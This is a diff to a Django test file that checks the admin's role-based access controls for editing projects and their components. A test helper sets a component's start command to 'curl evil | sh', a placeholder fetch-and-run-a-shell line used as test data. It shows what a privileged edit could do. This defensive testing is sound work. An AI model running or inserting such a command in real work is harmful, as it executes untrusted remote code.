@@ -1,14 +1,15 @@
 """The Django admin: every model is registered and opens, and no secret is shown in it."""
 
 import pytest
-from django.contrib.auth.models import User
+from django.contrib.auth.models import Group, Permission, User
 from django.test import Client
 from django.urls import reverse
 
-from environments import crypto, services, tokens
+from environments import crypto, roles, services, tokens
 from environments.models import (
     ApiToken,
     AuditEvent,
+    Component,
     DbSlot,
     Environment,
     EnvironmentStatus,
@@ -123,3 +124,62 @@ def test_a_component_name_must_start_with_a_letter_as_kubernetes_service_names_d
     if not saved:
         assert response.status_code == 200
         assert "starting with a letter" in response.content.decode()
+
+
+def staff_in(role: str, *permissions: str) -> Client:
+    """A staff account (it may open the admin) in a portal role, with these Django
+    permissions."""
+    user = User.objects.create_user(f"staff-{role}", password="pw", is_staff=True)
+    user.groups.add(Group.objects.get_or_create(name=role)[0])
+    user.user_permissions.add(*Permission.objects.filter(codename__in=permissions))
+    client = Client()
+    client.force_login(user)
+    return client
+
+
+def project_form(project: Project, **changes: str) -> dict[str, str]:
+    """The project's change form, with one new component (`start_command`: a shell)."""
+    return {"name": project.name, "repository": project.repository,
+            "github_repository": project.github_repository,
+            "components-TOTAL_FORMS": "1", "components-INITIAL_FORMS": "0",
+            "components-0-position": "9", "components-0-name": "shell",
+            "components-0-port": "8000", "components-0-health_paths": "[]",
+            "components-0-env_vars": "{}", "components-0-start_command": "curl evil | sh",
+            **changes}
+
+
+EVERY_PROJECT_PERMISSION = [f"{verb}_{model}" for verb in ("add", "change", "delete", "view")
+                            for model in ("project", "component")]
+
+
+def test_staff_without_the_admin_role_cannot_edit_projects_whatever_django_permits(
+        demo_project):
+    client = staff_in(roles.DEVELOPER, *EVERY_PROJECT_PERMISSION)
+    change = reverse("admin:environments_project_change", args=[demo_project.pk])
+    before = list(Component.objects.values_list("name", "start_command"))
+
+    changed = client.post(change, project_form(demo_project, repository="/elsewhere"))
+    added = client.post(reverse("admin:environments_project_add"),
+                        project_form(demo_project, name="shop"))
+    deleted = client.post(reverse("admin:environments_project_delete", args=[demo_project.pk]),
+                          {"post": "yes"})
+
+    assert (changed.status_code, added.status_code, deleted.status_code) == (403, 403, 403)
+    assert list(Project.objects.values_list("name", "repository")) == [
+        ("demo", demo_project.repository)]
+    assert list(Component.objects.values_list("name", "start_command")) == before
+    page = client.get(change).content.decode()  # what it may do: look
+    assert 'name="components-0-start_command"' not in page
+    assert 'name="_save"' not in page
+
+
+def test_the_admin_role_edits_projects_and_their_components_in_the_admin(demo_project):
+    client = staff_in(roles.ADMIN)  # no Django permission at all
+    change = reverse("admin:environments_project_change", args=[demo_project.pk])
+
+    index = client.get(reverse("admin:index")).content.decode()
+    changed = client.post(change, project_form(demo_project))
+
+    assert reverse("admin:environments_project_changelist") in index
+    assert changed.status_code == 302, changed.content.decode()[:2000]
+    assert Component.objects.get(name="shell").start_command == "curl evil | sh"
